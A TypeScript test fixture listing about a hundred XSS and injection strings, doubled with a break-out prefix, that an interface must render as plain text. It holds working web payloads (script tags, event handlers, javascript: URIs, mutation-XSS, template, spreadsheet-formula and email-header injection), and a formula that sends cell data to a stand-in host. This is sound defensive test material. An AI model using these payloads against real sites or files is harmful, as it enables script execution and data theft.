/** Texts that try to run, load or break out. Each would call `alert`, request from `x.example`, or add an element. */
const SEEDS: readonly string[] = [
  // tags
  '<script>alert(1)</script>',
  '<script src="https://x.example/a.js"></script>',
  '<script type=module>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script/x>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="https://x.example/a.swf">',
  '<base href="https://x.example/">',
  '<meta http-equiv=refresh content="0;url=https://x.example/">',
  '<link rel=stylesheet href=https://x.example/a.css>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="https://x.example/pixel.png">',
  '<picture><source srcset="https://x.example/p"><img></picture>',
  '<image src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video poster="https://x.example/p.png" autoplay></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<body onload=alert(1)>',
  '<frameset onload=alert(1)>',
  '<custom-tag tabindex=1 autofocus onfocus=alert(1)>',
  '</p></div></main></body></html><h1>gone</h1>',
  // forms
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<form action="https://x.example/"><input name=password></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>1</select>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</option></select><img src=x onerror=alert(1)>',
  // attributes
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '"><img src=x onerror=alert(1)>',
  '" style="background:url(https://x.example/a.png)" x="',
  '` onload=`alert(1)`',
  'x onpointerenter=alert(1) tabindex=0',
  '" srcset="https://x.example/1 1x',
  // svg and mathml
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onload to=alert(1)></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>press</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">press</math>',
  // templates and markup that parsers read differently
  '<template><script>alert(1)</script></template>',
  '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  // styles
  '<style>@import "https://x.example/a.css"</style>',
  '<style>*{background:url(https://x.example/a.png)}</style>',
  '<p style="background-image:url(https://x.example/a.png)">',
  '<xss style="animation-name:spin" onanimationstart=alert(1)>',
  '}*{display:none}/*',
  // links
  '<a href="javascript:alert(1)">press</a>',
  '<a href="java&#9;script:alert(1)">press</a>',
  '<a href="&#x6A;avascript:alert(1)">press</a>',
  '<a href="data:text/html,<script>alert(1)</script>">press</a>',
  'javascript:alert(1)',
  'JaVaScRiPt://x.example/%0aalert(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  '//x.example/a.js',
  // Markdown
  '[press](javascript:alert(1))',
  '[press](<javascript:alert(1)>)',
  '[press](https://x.example "onmouseover=alert(1)")',
  '![x](x" onerror="alert(1))',
  '![x](https://x.example/pixel.png)',
  '<javascript:alert(1)>',
  '**<img src=x onerror=alert(1)>**',
  '`<script>alert(1)</script>`',
  // entities and escapes
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;script&amp;gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what someone would type
  '${alert(1)} <%= alert(1) %> #{alert(1)}',
  // look-alike and invisible characters
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  'a\u2028alert(1)\u2029b',
  'safe\u202egpj.exe\u202c<b>',
  '<\u200bscript>alert(1)</script>\ufeff',
  // JSON-LD, spreadsheets, emails and calendars
  '"}]}</script><script>alert(1)</script>',
  '=HYPERLINK("https://x.example/?"&A1,"press")',
  '+1-1 <b onclick=alert(1)>press</b>',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  'x\r\nBcc: x@x.example\r\nContent-Type: text/html\r\n\r\n<img src=x>',
  'x\nEND:VEVENT\nBEGIN:VEVENT\nURL:javascript:alert(1)',
]

/** Closes whatever it may appear in: an attribute, a comment, a script, a text box. */
const BREAK_OUT = `"'>--></script></textarea></title>`

/** 200 texts that must stay text wherever they are shown (T70). */
export const PAYLOADS: readonly string[] = SEEDS.flatMap(seed => [seed, `${BREAK_OUT}${seed}`])

/** A text of the same length with the same spaces that means nothing to a browser. */
export const harmless = (text: string): string => text.replace(/[^\p{L}\p{N}\s.,:;|]/gu, 'o')
